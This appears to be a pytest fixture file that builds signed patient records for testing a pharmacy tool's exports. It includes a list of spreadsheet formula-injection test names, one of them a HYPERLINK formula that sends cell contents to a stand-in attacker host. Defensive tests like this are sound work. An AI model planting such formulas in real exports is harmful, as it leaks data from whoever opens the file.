"""Signed records for the export tests, made through the records package's own signing."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from pharmacist_tool.case import Case, Outcome
from pharmacist_tool.engine.assessment import Assessment, ChecklistEntry, KnowledgeBaseRef
from pharmacist_tool.records.db import Database, open_database
from pharmacist_tool.records.reading import StoredHandout
from pharmacist_tool.records.users import AuthenticatedUser, authenticate, create_first_admin
from pharmacist_tool.records.writing import amend_record, sign_record
from tests.conftest import EXAMPLE_FILES, example_case

PASSWORD = "correct horse battery staple"

TRICKY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tTabbed Name",
    'Zoë O\'Brien, "Zo"',
]


def make_pdf(text: str) -> bytes:
    """A small real PDF (ReportLab) whose bytes depend on ``text``."""
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=1)
    pdf.drawString(72, 720, text)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def assessment_for(case: Case) -> Assessment:
    daily = case.prescription.daily_dose_mg
    return Assessment(
        knowledge_base=KnowledgeBaseRef(
            medicine="isotretinoin",
            version="2026.11.1",
            rule_set=case.rule_set,
            rules_effective_from=dt.date(2026, 11, 15),
            rules_version=f"{case.rule_set} 2026",
        ),
        dispense="ok",
        findings=[],
        checklist=[
            ChecklistEntry(id="storage", title="Storage", required=True, done=True),
            ChecklistEntry(id="disposal", title="Disposal", required=False, done=False),
        ],
        daily_dose_mg=daily,
        dose_mg_per_kg_per_day=round(daily / case.patient.weight_kg, 2),
        pick_up_by=None,
        next_pregnancy_test_due=None,
        product=case.prescription.medicine,
    )


def finished(case: Case, *, name: str | None = None, counselled_on: dt.date | None = None) -> Case:
    patient = msgspec.structs.replace(case.patient, name=name or case.patient.name)
    return msgspec.structs.replace(
        case,
        patient=patient,
        counselled_on=counselled_on or case.counselled_on,
        outcome=Outcome(status="handed-over"),
    )


def handout_for(case: Case) -> StoredHandout:
    pdf = make_pdf(f"Handout for {case.patient.name} {case.counselled_on}")
    return StoredHandout(
        pdf=pdf,
        sha256=hashlib.sha256(pdf).hexdigest(),
        template_version="test",
        language=case.patient.handout_language,
        large_print=False,
        paper="A4",
        source="rendered",
    )


class Counter:
    """A database with a signing pharmacist, and helpers to sign and amend."""

    def __init__(self, db: Database, signer: AuthenticatedUser) -> None:
        self.db = db
        self.signer = signer

    def sign(self, case: Case) -> int:
        return sign_record(self.db, self.signer, case, assessment_for(case), handout_for(case)).id

    def amend(self, record_id: int, case: Case, reason: str) -> int:
        return amend_record(
            self.db, record_id, self.signer, case, assessment_for(case), handout_for(case), reason
        ).id


def open_counter(url: str) -> Counter:
    db = open_database(url)
    create_first_admin(db, "ana", PASSWORD, full_name="Ana Pharmacist", role="pharmacist")
    return Counter(db, authenticate(db, "ana", PASSWORD, purpose="sign"))


@pytest.fixture
def counter(tmp_path: Path) -> Iterator[Counter]:
    c = open_counter(f"sqlite:///{tmp_path / 'records.sqlite3'}")
    yield c
    c.db.close()


@pytest.fixture
def filled(counter: Counter) -> Counter:
    """Every example case signed, the tricky names, and an amendment."""
    day = dt.date(2026, 3, 1)
    for i, path in enumerate(EXAMPLE_FILES):
        case = example_case(path.name[:2])
        counter.sign(finished(case, counselled_on=day + dt.timedelta(days=i)))
    base = example_case("01")
    for i, name in enumerate(TRICKY_NAMES):
        counter.sign(finished(base, name=name, counselled_on=dt.date(2026, 4, 1 + i)))
    amended = finished(base, name="Ana García-López", counselled_on=dt.date(2026, 3, 1))
    counter.amend(1, amended, "Surname was misspelt")
    return counter
